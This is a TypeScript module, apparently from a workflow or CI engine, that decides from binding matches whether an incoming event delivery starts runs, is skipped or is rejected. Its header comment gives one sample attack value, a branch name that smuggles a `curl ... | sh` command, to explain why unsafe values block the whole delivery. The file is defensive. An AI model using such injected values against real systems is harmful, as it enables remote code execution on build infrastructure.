/**
 * What a delivery does, from its binding matches: the runs to start, and the outcome and reason
 * to record. An event value that fails a safe pattern stops the whole delivery (a branch named
 * `main;curl${IFS}x|sh` is an attack, so no binding runs for it); a broken binding only loses its
 * own run.
 */
import { isRejection, type BindingEvent, type BindingMatch, type BindingStart } from './match-bindings.js';

export type DeliveryOutcome = 'started' | 'skipped' | 'rejected';

export interface DeliveryPlan {
  start: BindingStart[];
  outcome: DeliveryOutcome;
  /** Human-readable; null when every matching binding starts. */
  reason: string | null;
}

export function planDelivery(delivery: BindingEvent, matches: readonly BindingMatch[]): DeliveryPlan {
  if (delivery.provider !== 'generic' && delivery.ignoredReason) return { start: [], outcome: 'skipped', reason: delivery.ignoredReason };
  const rejections = matches.filter(isRejection);
  const starts = matches.filter((m): m is BindingStart => !isRejection(m));
  if (rejections.some((r) => r.cause === 'unsafe')) {
    return { start: [], outcome: 'rejected', reason: `starts nothing: ${rejections.map((r) => r.rejected).join('; ')}` };
  }
  const reason = rejections.length ? rejections.map((r) => r.rejected).join('; ') : null;
  if (starts.length) return { start: starts, outcome: 'started', reason };
  if (rejections.length) return { start: [], outcome: 'rejected', reason };
  return { start: [], outcome: 'skipped', reason: 'no WorkflowEventBinding matched' };
}
